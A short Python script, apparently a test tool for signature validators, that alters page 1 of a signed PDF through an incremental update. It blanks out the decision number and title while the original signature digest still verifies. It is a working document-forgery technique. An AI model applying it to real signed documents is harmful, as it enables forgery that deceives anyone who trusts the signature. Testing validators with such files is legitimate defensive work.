"""Changes what page 1 shows in an already signed PDF, the way an attacker would: an incremental
update that replaces the page's content stream. The signed revision stays byte-for-byte intact, so
the signature's own digest still matches; only a validator that looks at what was added after the
signed revision sees the change.

Usage: pdf_modify_after_signing.py SIGNED.pdf OUT.pdf
"""

import sys

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

# A white box over the top of page 1 (where the decision number and title are) and a new line.
COVER = b"\nq 1 1 1 rg 0 690 595 152 re f Q\nq 0.8 0 0 rg 40 760 400 40 re f Q\n"


def main() -> None:
    src, out = sys.argv[1], sys.argv[2]
    with open(src, "rb") as f:
        writer = IncrementalPdfFileWriter(f)
        page_ref, _resources = writer.find_page_for_modification(0)
        page = page_ref.get_object()
        old = page["/Contents"]
        if isinstance(old, generic.ArrayObject):
            data = b"\n".join(part.get_object().data for part in old)
        else:
            data = old.get_object().data
        new = generic.StreamObject(stream_data=data + COVER)
        new.compress()
        page["/Contents"] = writer.add_object(new)
        writer.update_container(page)
        with open(out, "wb") as o:
            writer.write(o)


if __name__ == "__main__":
    main()
